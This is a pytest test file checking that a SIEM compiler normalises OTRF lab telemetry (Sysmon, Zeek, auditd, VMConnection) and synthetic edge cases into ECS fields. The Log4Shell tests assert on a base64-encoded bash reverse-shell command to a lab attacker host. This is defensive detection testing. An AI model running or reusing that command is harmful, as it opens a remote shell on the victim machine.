"""Input profiles over the real OTRF telemetry plus synthetic edge cases.

The OTRF folder comes from the ``otrf`` fixture (tests/conftest.py): ``SIEMC_OTRF_DIR`` or
``analytics/fixtures/otrf`` (bundled); skipped when absent, a failure when ``CI=true``.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from compiler.inputs import FORMATS, flatten, read_events
from compiler.timeutil import parse_timestamp

OTRF_FILES = {
    "otrf_lsass06_payload_sysmon.jsonl": ("sysmon", 223),
    "otrf_lsass06_zeek_conn.log": ("zeek", 777),
    "otrf_excel_dcom_sysmon_1_3_22.jsonl": ("sysmon", 29),
    "otrf_psh_github_sysmon_1_3_22.jsonl": ("sysmon", 5),
    "otrf_log4shell_linux_sysmon_syslog.jsonl": ("sysmon", 93),
    "otrf_log4shell_linux_auoms.jsonl": ("auditd", 50),
    "otrf_log4shell_vmconnection_bytes.jsonl": ("vmconnection", 5),
    "UTICA-ONE-DRIVE_conn.log": ("zeek", 64),
    "UTICA-ONE-DRIVE_dns.log": ("zeek", 7),
    "UTICA-ONE-DRIVE_ssl.log": ("zeek", 59),
    "UTICA-ONE-DRIVE_files.log": ("zeek", 30),
}


def load(otrf: Path, name: str) -> list[dict[str, Any]]:
    return list(read_events(otrf / name, OTRF_FILES[name][0]))


# ------------------------------------------------------------------ every file, generic facts
@pytest.mark.parametrize("name", sorted(OTRF_FILES))
def test_every_otrf_file_normalises(otrf: Path, name: str) -> None:
    fmt, count = OTRF_FILES[name]
    events = load(otrf, name)
    assert len(events) == count
    ids = [e["event.id"] for e in events if "event.id" in e]
    assert len(ids) == len(set(ids)), "event.id must be unique within a file"
    for e in events:
        assert parse_timestamp(e["@timestamp"]) > 0
        assert e["@timestamp"].endswith("Z")
        assert "event.module" in e and "event.dataset" in e
        assert all(isinstance(k, str) and not isinstance(v, dict) for k, v in e.items())
    if fmt != "sysmon" or "linux" in name or "excel" in name:
        assert len(ids) == count  # every source but the NXLog-less Windows exports has ids


# ------------------------------------------------------------------ LSASS_campaign_06
def test_lsass06_zeek_bytes_to_c2(otrf: Path) -> None:
    flows = [
        e
        for e in load(otrf, "otrf_lsass06_zeek_conn.log")
        if e.get("destination.ip") == "10.0.5.14" and e.get("destination.port") == 6666
    ]
    assert [f["source.port"] for f in flows] == [56448, 56449]
    # ECS source/destination.bytes = orig_ip_bytes/resp_ip_bytes: the sensor missed the upload,
    # so the IP-level counts show the *opposite* of the exfiltration.
    assert sum(f["source.bytes"] for f in flows) == 64_280
    assert sum(f["destination.bytes"] for f in flows) == 966_403
    # The payload counts (from TCP sequence numbers) carry the real ~26.3 MB vs ~0.54 MB.
    big = flows[1]
    assert big["event.id"] == "CKz2Si282BMipFvFj1"
    assert big["zeek.conn.orig_bytes"] == 26_310_415
    assert big["zeek.conn.resp_bytes"] == 544_495
    assert big["zeek.conn.missed_bytes"] == big["zeek.conn.orig_bytes"]
    assert big["zeek.conn.orig_pkts"] == 1
    assert big["event.duration"] == 285_059_463_000  # ns
    assert big["network.transport"] == "tcp"
    assert big["@timestamp"] == "2023-09-06T05:45:03.975Z"


def test_lsass06_sysmon_eid3_joins_zeek_by_5_tuple(otrf: Path) -> None:
    sysmon = load(otrf, "otrf_lsass06_payload_sysmon.jsonl")
    zeek = load(otrf, "otrf_lsass06_zeek_conn.log")
    keys = ("source.ip", "source.port", "destination.ip", "destination.port", "network.transport")
    flows = {tuple(z.get(k) for k in keys): z for z in zeek}
    eid3 = [e for e in sysmon if e["event.code"] == "3"]
    assert len(eid3) == 2
    for e in eid3:
        assert e["event.category"] == "network" and e["event.type"] == "connection"
        assert e["process.name"] == "winx64_payload.exe"
        assert e["process.entity_id"] == "{ec2b781c-11de-64f8-cc03-000000000500}"
        assert "destination.domain" not in e  # DestinationHostname is "-"
        assert tuple(e.get(k) for k in keys) in flows
    # EID 3's own UtcTime is ~13.9 h before the Zeek flow it joins (and before its process
    # started): joins must tolerate skew.
    z = flows[tuple(eid3[1].get(k) for k in keys)]
    skew = parse_timestamp(z["@timestamp"]) - parse_timestamp(eid3[1]["@timestamp"])
    assert 13 * 3_600_000 < skew < 14 * 3_600_000


def test_lsass06_timestamp_is_utctime_not_shipper_time(otrf: Path) -> None:
    first = load(otrf, "otrf_lsass06_payload_sysmon.jsonl")[0]
    assert first["event.code"] == "1"
    assert first["@timestamp"] == "2023-09-06T05:45:02.103Z"  # UtcTime
    assert first["event.created"] == "2023-09-05T10:45:02.141Z"  # @timestamp/TimeCreated
    assert first["process.parent.name"] == "explorer.exe"
    assert first["user.name"] == "pedro.gustavo" and first["user.domain"] == "PANDALAB"
    assert first["winlog.event_data.UtcTime"] == "2023-09-06 05:45:02.103"
    assert first["host.name"] == "MKT01.pandalab.com"
    assert first["host.os.type"] == "windows"


# ------------------------------------------------------------------ Windows Sysmon, atomic
def test_psh_github_dns_answer_is_connected_to(otrf: Path) -> None:
    events = load(otrf, "otrf_psh_github_sysmon_1_3_22.jsonl")
    dns = next(e for e in events if e.get("dns.question.name") == "raw.githubusercontent.com")
    assert dns["event.category"] == "network" and dns["event.type"] == "info"
    assert "151.101.208.133" in dns["winlog.event_data.QueryResults"]
    assert dns["dns.resolved_ip"] == ["151.101.208.133"]
    later = [
        e
        for e in events
        if e["event.code"] == "3"
        and e["destination.ip"] in dns["dns.resolved_ip"]
        and e["@timestamp"] >= dns["@timestamp"]
    ]
    assert len(later) == 1
    assert later[0]["destination.port"] == 443
    assert later[0]["process.entity_id"] == dns["process.entity_id"]
    assert later[0]["process.name"] == "powershell.exe"


def test_excel_dcom_process_start(otrf: Path) -> None:
    events = load(otrf, "otrf_excel_dcom_sysmon_1_3_22.jsonl")
    starts = [
        e for e in events if e.get("event.type") == "start" and e["process.name"] == "EXCEL.EXE"
    ]
    assert len(starts) == 1
    excel = starts[0]
    assert excel["event.category"] == "process"
    assert excel["event.id"] == "699490"  # NXLog RecordNumber
    # `host` in this export is the WEC collector; the machine is in `Hostname`
    assert excel["host.name"] == "WORKSTATION6.theshire.local"
    assert excel["process.parent.command_line"].endswith("-k DcomLaunch -p")
    assert "/automation -Embedding" in excel["process.command_line"]
    assert excel["@timestamp"] == "2020-09-17T21:46:05.560Z"
    akamai = [e for e in events if str(e.get("destination.ip", "")).startswith("23.62.")]
    assert {e["process.name"] for e in akamai} == {"EXCEL.EXE"}


# ------------------------------------------------------------------ Log4Shell on Linux
def test_linux_sysmon_xml_in_syslog(otrf: Path) -> None:
    events = load(otrf, "otrf_log4shell_linux_sysmon_syslog.jsonl")
    assert {e["host.os.type"] for e in events} == {"linux"}
    assert {e["host.name"] for e in events} == {"UBUNTU5"}
    # line 8 is cut at 2012 characters inside ParentCommandLine; the payload survives
    cut = events[7]
    assert cut["tags"] == ["truncated"]
    assert cut["event.id"] == "245760"
    assert cut["process.command_line"].startswith("bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3Rj")
    assert cut["process.parent.name"] == "java"
    assert cut["process.parent.command_line"].endswith("-Dcatalina.base=/opt/tomcat -")
    # Sysmon for Linux writes `&lt ` for `<`: repaired, not fatal
    assert events[8]["process.name"] == "<unknown process>"
    assert '"SELECT PercentUserTime' in events[64]["process.command_line"]
    egress = [
        e for e in events if e["event.code"] == "3" and e.get("destination.ip") == "192.168.2.6"
    ]
    # JNDI lookup over LDAP, class download over HTTP, then the reverse shell
    assert [(e["process.name"], e["destination.port"]) for e in egress] == [
        ("java", 1389),
        ("java", 8888),
        ("bash", 443),
    ]


def test_auoms_execve(otrf: Path) -> None:
    events = load(otrf, "otrf_log4shell_linux_auoms.jsonl")
    starts = [e for e in events if e.get("event.type") == "start"]
    failures = [e for e in events if e.get("event.outcome") == "failure"]
    assert (len(starts), len(failures)) == (27, 23)
    bash = next(e for e in starts if e["process.parent.pid"] == 1340)
    assert bash["event.id"] == "84143"
    assert bash["process.executable"] == "/bin/bash" and bash["process.name"] == "bash"
    assert bash["process.pid"] == 17790
    assert bash["user.name"] == "tomcat"
    # auoms does not escape the inner quotes of cmdline
    assert bash["process.command_line"] == (
        'bash -c "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}'
        '|{base64,-d}|{bash,-i}"'
    )
    assert bash["@timestamp"] == "2022-05-11T18:10:21.990Z"
    assert bash["auditd.data.path_name"] == ["/bin/bash", "/lib64/ld-linux-x86-64.so.2"]
    # failed PATH probes describe the calling java process and are not process starts
    probe = events[0]
    assert probe["event.type"] == "info"
    assert probe["process.name"] == "java" and probe["file.path"] == "/usr/local/sbin/bash"
    assert {e["process.name"] for e in starts} >= {"bash", "base64", "whoami"}


def test_vmconnection_bytes(otrf: Path) -> None:
    rows = load(otrf, "otrf_log4shell_vmconnection_bytes.jsonl")
    shell = next(e for e in rows if e["process.name"] == "bash")
    assert shell["event.dataset"] == "azure.vmconnection"
    assert (shell["destination.ip"], shell["destination.port"]) == ("192.168.2.6", 443)
    assert (shell["source.bytes"], shell["destination.bytes"]) == (183, 8)
    assert shell["host.name"] == "UBUNTU5"
    inbound = next(e for e in rows if e["network.direction"] == "ingress")
    # the attacker (remote) initiated: it is the ECS source, and sent what java received
    assert inbound["source.ip"] == "192.168.2.6" and inbound["destination.port"] == 8080
    assert inbound["source.bytes"] == inbound["azure.vmconnection.BytesReceived"] == 137


# ------------------------------------------------------------------ APT29 UTICA (Zeek JSON)
def test_utica_zeek_json_with_underscored_names(otrf: Path) -> None:
    conn = load(otrf, "UTICA-ONE-DRIVE_conn.log")
    assert conn[0]["source.ip"] == "10.0.1.5" and conn[0]["destination.port"] == 443
    assert conn[0]["source.bytes"] == 895 and conn[0]["zeek.conn.orig_bytes"] == 643
    assert conn[0]["zeek.conn.id.orig_h"] == "10.0.1.5"
    ssl = load(otrf, "UTICA-ONE-DRIVE_ssl.log")
    onedrive = [e for e in ssl if e.get("tls.client.server_name") == "d.docs.live.net"]
    assert len(onedrive) == 3
    assert {e["destination.domain"] for e in onedrive} == {"d.docs.live.net"}
    assert {e["destination.ip"] for e in onedrive} == {"13.107.42.12"}
    assert onedrive[0]["event.id"].endswith(":ssl")
    conn_ids = {e["event.id"] for e in conn}
    assert all(e["event.id"].removesuffix(":ssl") in conn_ids for e in onedrive)
    dns = load(otrf, "UTICA-ONE-DRIVE_dns.log")
    assert dns[0]["dns.question.name"] == "d.docs.live.net"
    assert dns[0]["dns.resolved_ip"] == ["13.107.42.12"]
    assert dns[2]["event.id"] == "C3fqTD4f2THeiAapC6:dns#2"  # a retry of the same query
    files = load(otrf, "UTICA-ONE-DRIVE_files.log")
    assert files[0]["event.dataset"] == "zeek.files" and files[0]["file.size"] == 5382


# ------------------------------------------------------------------ synthetic edge cases
def write(tmp_path: Path, name: str, text: str) -> Path:
    p = tmp_path / name
    p.write_text(text, encoding="utf-8")
    return p


TSV = (
    "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tconn\n"
    "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration"
    "\torig_ip_bytes\tresp_ip_bytes\tlocal_orig\ttunnel_parents\thistory\n"
    "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tinterval\tcount\tcount\tbool"
    "\tset[string]\tstring\n"
    "1700000000.123456\tC1\t10.0.0.1\t5000\t10.0.0.2\t443\ttcp\t-\t1.5\t100\t200\tT\t(empty)"
    "\t(empty)\n"
    "1700000001\tC2\t10.0.0.1\t5001\t10.0.0.2\t443\ttcp\tssl\t-\t-\t-\tF\tC1,C3\tShA\\x09x\n"
    "#close\t2023-11-14-22-13-21\n"
)


def test_zeek_tsv_unset_and_empty(tmp_path: Path) -> None:
    a, b = read_events(write(tmp_path, "x.log", TSV), "zeek")
    assert a["@timestamp"] == "2023-11-14T22:13:20.123Z"
    assert a["event.dataset"] == "zeek.conn" and a["event.id"] == "C1"
    assert a["source.port"] == 5000 and a["source.bytes"] == 100 and a["destination.bytes"] == 200
    assert a["event.duration"] == 1_500_000_000
    assert "network.protocol" not in a  # service unset
    assert a["zeek.conn.tunnel_parents"] == [] and a["zeek.conn.history"] == ""
    assert a["zeek.conn.local_orig"] is True
    assert "zeek.conn.duration" not in b and "source.bytes" not in b
    assert b["zeek.conn.tunnel_parents"] == ["C1", "C3"]
    assert b["zeek.conn.history"] == "ShA\tx"
    assert b["network.protocol"] == "ssl"


def test_zeek_tsv_errors_name_path_and_line(tmp_path: Path) -> None:
    bad = write(tmp_path, "bad.log", TSV.replace("\t5001\t", "\tfive\t"))
    with pytest.raises(ValueError, match=r"bad\.log:9: field id\.orig_p"):
        list(read_events(bad, "zeek"))
    short = write(tmp_path, "short.log", TSV.replace("\tShA\\x09x", ""))
    with pytest.raises(ValueError, match=r"short\.log:9: expected 14"):
        list(read_events(short, "zeek"))
    headless = write(tmp_path, "headless.log", "1700000000\tC1\n")
    with pytest.raises(ValueError, match=r"headless\.log:1: .*#fields"):
        list(read_events(headless, "zeek"))


def test_zeek_json_kind_from_fields_and_dotted_names(tmp_path: Path) -> None:
    line = {
        "ts": "2024-01-01T00:00:00Z",
        "uid": "C9",
        "id.orig_h": "::ffff:10.1.1.1",
        "id.resp_h": "10.1.1.2",
        "query": "example.com",
        "answers": ["a.example", "1.2.3.4"],
    }
    (e,) = read_events(write(tmp_path, "net.json", json.dumps(line) + "\n"), "zeek")
    assert e["event.dataset"] == "zeek.dns" and e["event.id"] == "C9:dns"
    assert e["source.ip"] == "10.1.1.1"
    assert e["dns.resolved_ip"] == ["1.2.3.4"]
    with pytest.raises(ValueError, match=r"mystery\.json:1: cannot tell the Zeek log kind"):
        list(read_events(write(tmp_path, "mystery.json", '{"ts": 1}\n'), "zeek"))


def test_ecs_jsonl_and_array(tmp_path: Path) -> None:
    docs = [
        {"@timestamp": "2024-01-01T01:00:00+01:00", "process": {"name": "a.exe", "args": ["x"]}},
        {"@timestamp": 1704067200.5, "host.name": "h", "event": {"id": "e2"}},
    ]
    jsonl = write(tmp_path, "a.jsonl", "\n".join(json.dumps(d) for d in docs) + "\n\n")
    array = write(tmp_path, "b.json", "\n" + json.dumps(docs, indent=2))
    for path in (jsonl, array):
        a, b = read_events(path, "ecs")
        assert a == {"@timestamp": "2024-01-01T01:00:00+01:00", "process.name": "a.exe",
                     "process.args": ["x"]}  # fmt: skip
        assert b == {"@timestamp": "2024-01-01T00:00:00.500Z", "host.name": "h", "event.id": "e2"}
    assert list(read_events(write(tmp_path, "empty.json", "[]"), "ecs")) == []
    assert list(read_events(write(tmp_path, "empty.jsonl", "\n\n"), "ecs")) == []


def test_bad_lines_name_path_and_line(tmp_path: Path) -> None:
    good = json.dumps({"@timestamp": "2024-01-01T00:00:00Z"})
    p = write(tmp_path, "e.jsonl", f"{good}\n\n{{not json\n")
    with pytest.raises(ValueError, match=r"e\.jsonl:3: invalid JSON"):
        list(read_events(p, "ecs"))
    p = write(tmp_path, "n.jsonl", f'{good}\n{{"a": 1}}\n')
    with pytest.raises(ValueError, match=r"n\.jsonl:2: missing @timestamp"):
        list(read_events(p, "ecs"))
    p = write(tmp_path, "t.jsonl", '{"@timestamp": "yesterday"}\n')
    with pytest.raises(ValueError, match=r"t\.jsonl:1: invalid timestamp 'yesterday'"):
        list(read_events(p, "ecs"))
    p = write(tmp_path, "arr.json", f"[\n{good},\n{good},\n42\n]")
    with pytest.raises(ValueError, match=r"arr\.json:4: expected a JSON object"):
        list(read_events(p, "ecs"))
    p = write(tmp_path, "s.jsonl", '{"EventID": "x", "UtcTime": "2024-01-01 00:00:00.000"}\n')
    with pytest.raises(ValueError, match=r"s\.jsonl:1: EventID is not a number"):
        list(read_events(p, "sysmon"))


def test_unknown_format_lists_formats(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="ecs, sysmon, zeek, auditd, vmconnection"):
        read_events(tmp_path / "x", "evtx")
    assert FORMATS == ("ecs", "sysmon", "zeek", "auditd", "vmconnection")


def test_flatten() -> None:
    doc = {"a": {"b": {"c": 1}, "d.e": [{"x": 1}]}, "f.g": None, "h": {}}
    assert flatten(doc) == {"a.b.c": 1, "a.d.e": [{"x": 1}], "f.g": None}


def test_sysmon_windows_xml_with_namespace_and_fallback_time(tmp_path: Path) -> None:
    xml = (
        '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System>'
        '<Provider Name="Microsoft-Windows-Sysmon"/><EventID>3</EventID>'
        '<TimeCreated SystemTime="2024-01-01T00:00:01.5Z"/><EventRecordID>7</EventRecordID>'
        "<Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>PC1</Computer>"
        '</System><EventData><Data Name="Image">C:\\a &amp; b\\x.exe</Data>'
        '<Data Name="SourceIp">::ffff:10.0.0.1</Data><Data Name="DestinationPort">80</Data>'
        '<Data Name="DestinationHostname">web.example</Data></EventData></Event>'
    )
    (e,) = read_events(write(tmp_path, "w.log", f"<14>Jan  1 host sysmon: {xml}\n"), "sysmon")
    assert e["@timestamp"] == "2024-01-01T00:00:01.500Z"  # no UtcTime: TimeCreated
    assert e["host.os.type"] == "windows" and e["host.name"] == "PC1" and e["event.id"] == "7"
    assert e["process.name"] == "x.exe" and e["process.executable"] == "C:\\a & b\\x.exe"
    assert e["source.ip"] == "10.0.0.1" and e["destination.port"] == 80
    assert e["destination.domain"] == "web.example"


def test_auditd_raw_line_connect_and_free_text(tmp_path: Path) -> None:
    lines = [
        "type=AUOMS_SYSCALL audit(1700000000.5:9): syscall=connect success=yes pid=5 ppid=1 "
        'user=root exe="/usr/bin/curl" saddr=020001BBC0A800010000000000000000 redactors=',
        'type=AUOMS_EXECVE audit(1700000001.0:10): syscall=execve success=yes pid=6 ppid=5 '
        'exe="/usr/bin/env" cmdline="env A=1 B="x y" ls" redactors= containerid=',
    ]  # fmt: skip
    p = write(tmp_path, "audit.log", "\n".join(lines) + "\n")
    net, proc = read_events(p, "auditd")
    assert net["event.category"] == "network" and net["event.type"] == "connection"
    assert (net["destination.ip"], net["destination.port"]) == ("192.168.0.1", 443)
    assert net["process.name"] == "curl" and net["event.id"] == "9"
    assert net["@timestamp"] == "2023-11-14T22:13:20.500Z"
    assert proc["process.command_line"] == 'env A=1 B="x y" ls'
    assert proc["process.parent.pid"] == 5
    with pytest.raises(ValueError, match=r"audit\.log:1: no audit record"):
        list(read_events(write(tmp_path, "audit.log", "hello\n"), "auditd"))


# ------------------------------------------------------------------ orjson reading = stdlib's
def _reference_iter_json(path: Path, allow_text: bool = False) -> list[tuple[int, Any]]:
    """The reading iter_json replaced (text, universal newlines, json.loads per line)."""
    from compiler.inputs._common import _iter_array, _line

    out: list[tuple[int, Any]] = []
    with path.open("r", encoding="utf-8-sig", errors="replace", newline="") as fh:
        lines = list(fh)
    for k, raw in enumerate(lines):
        if not raw.strip():
            continue
        if raw.strip().startswith("["):
            text = "\n" * k + "".join(lines[k:])
            return list(_iter_array(path, text))
        for n, line in enumerate(lines[k:], k + 1):
            out.extend(_line(path, n, line, allow_text))
        return out
    return out


def _outcome(read: Any) -> Any:
    try:
        return ("ok", read())
    except ValueError as exc:
        return ("error", str(exc))


TRICKY_LINES = [
    b'{"a": 1, "a": 2}',
    b'{"big": 123456789012345678901234567890, "neg": -9223372036854775809}',
    b'{"u64": 18446744073709551615, "id": "1234567890123456789012"}',
    b'{"f": 1e400, "g": -1e400, "h": 5e-324, "i": 0.1, "j": -0.0, "k": 1E2}',
    b'{"nan": NaN, "inf": Infinity, "ninf": -Infinity}',
    b'{"s": "\\ud800 lone", "t": "\\ud83d\\ude00 pair"}',
    b'{"bad": "\xff\xfe utf8"}',
    b'{"ctl": "\x01"}',
    b'{"sep": "\xe2\x80\xa8 line separator"}',
    b'   {"padded": true}   ',
    b"\x0c",
    b"\x1c\x1d",
    b"\xc2\x85",
    b'\xc2\xa0{"nbsp": 1}',
    b'{"a": 1}{"b": 2}',
    b'{"cr": 1}\r{"after_cr": 2}',
    b"\r\r",
    b"{broken",
    b"[1, 2]",
    b"42",
    b'"text"',
    b"plain text line",
    b'{"nested": {"x": {"y": [1, {"z": null}]}}}',
    b'\xef\xbb\xbf{"bom_mid_file": 1}',
    b"[" * 1200 + b"]" * 1200,
]


@pytest.mark.parametrize("allow_text", [False, True])
@pytest.mark.parametrize("k", range(len(TRICKY_LINES)))
def test_orjson_reading_equals_the_stdlib_reading(tmp_path: Path, k: int, allow_text: bool) -> None:
    from compiler.inputs._common import iter_json

    good = b'{"@timestamp": "2024-01-01T00:00:00Z", "n": 1}'
    for name, body in {
        "alone": TRICKY_LINES[k] + b"\n",
        "between": good + b"\r\n" + TRICKY_LINES[k] + b"\n" + good,
        "bom": b"\xef\xbb\xbf\n\n" + TRICKY_LINES[k] + b"\r\n" + good + b"\n",
    }.items():
        path = tmp_path / f"{name}.jsonl"
        path.write_bytes(body)
        new = _outcome(lambda p=path: list(iter_json(p, allow_text)))
        old = _outcome(lambda p=path: _reference_iter_json(p, allow_text))
        assert repr(new) == repr(old), name  # repr: NaN != NaN, -0.0 == 0.0


def test_orjson_reading_of_arrays_and_bounded_files(tmp_path: Path) -> None:
    from compiler.inputs._common import iter_json
    from compiler.safe_files import RefusedPath

    path = tmp_path / "array.json"
    path.write_bytes(b'\xef\xbb\xbf\r\n\n  [\n {"a": 1},\r\n {"b": NaN}\n]\n')
    assert repr(list(iter_json(path))) == repr(_reference_iter_json(path))
    assert [n for n, _ in iter_json(path)] == [4, 5]
    big = tmp_path / "big.jsonl"
    big.write_bytes(b'{"a": 1}\n' * 100)
    assert len(list(iter_json(big, limit=900))) == 100
    with pytest.raises(RefusedPath):
        list(iter_json(big, limit=899))


# ------------------------------------------------------------------ entry condition pushdown
_KEY = st.sampled_from(["a", "b", "a.b", "b.c", "a.b.c", "c", ""])
_LEAF = st.one_of(st.none(), st.integers(-3, 3), st.sampled_from(["x", "y", ""]))
_DOC = st.recursive(
    _LEAF | st.lists(_LEAF, max_size=2),
    lambda inner: st.dictionaries(_KEY, inner, max_size=4),
    max_leaves=12,
).filter(lambda d: isinstance(d, dict))


@given(_DOC)
def test_nested_fields_read_what_flatten_gives(doc: dict[str, Any]) -> None:
    from compiler.inputs.nested import NestedFields

    flat = flatten(doc)
    names = {*flat, "a.b", "a.b.c", "b.c", "a", "a..b", ".a", "a.b.c.d", "x"}
    for name in names:
        assert NestedFields(doc).get(name) == flat.get(name), name
        assert NestedFields(doc).get(name, "default") == flat.get(name, "default"), name


def test_within_depth_is_where_flatten_refuses() -> None:
    from compiler.inputs._common import MAX_NESTING
    from compiler.inputs.nested import within_depth

    def nested(n: int) -> dict[str, Any]:
        doc: dict[str, Any] = {"leaf": 1}
        for _ in range(n - 1):
            doc = {"k": doc, "other": {}}
        return doc

    for depth in (1, 2, 3, MAX_NESTING - 1, MAX_NESTING, MAX_NESTING + 1, MAX_NESTING + 2):
        doc = nested(depth)
        try:
            flatten(doc)
            ok = True
        except ValueError:
            ok = False
        assert within_depth(doc) is ok is (depth <= MAX_NESTING), depth


def test_the_ecs_reader_rejects_records_by_the_entry_condition(tmp_path: Path) -> None:
    from compiler.inputs import read_timed

    docs = [
        {"@timestamp": "2024-01-01T00:00:01Z", "process": {"name": "keep"}},
        {"@timestamp": "2024-01-01T00:00:02Z", "process": {"name": "drop"}},
        {"@timestamp": "2024-01-01T00:00:03Z", "process.name": "keep"},
        {"@timestamp": 1704067204, "process": {"name": "drop"}},  # time not text: whole
        {"@timestamp": "2024-01-01T00:00:05Z", "process": {"name": "drop"}, "process.name": "keep"},
    ]
    path = tmp_path / "e.jsonl"
    path.write_text("".join(json.dumps(d) + "\n" for d in docs), encoding="utf-8")

    def admits(fields: Any) -> bool:
        return bool(fields.get("process.name") == "keep")

    got = list(read_timed(path, "ecs", admits=admits))
    assert [ts for ts, _ in got] == [T + 1000, T + 2000, T + 3000, None, T + 5000]
    assert [f is None for _, f in got] == [False, True, False, False, False]
    assert [f["process.name"] for _, f in got if f is not None] == ["keep", "keep", "drop", "keep"]
    assert [e for _, e in read_timed(path, "ecs")] == list(read_events(path, "ecs"))


T = 1_704_067_200_000
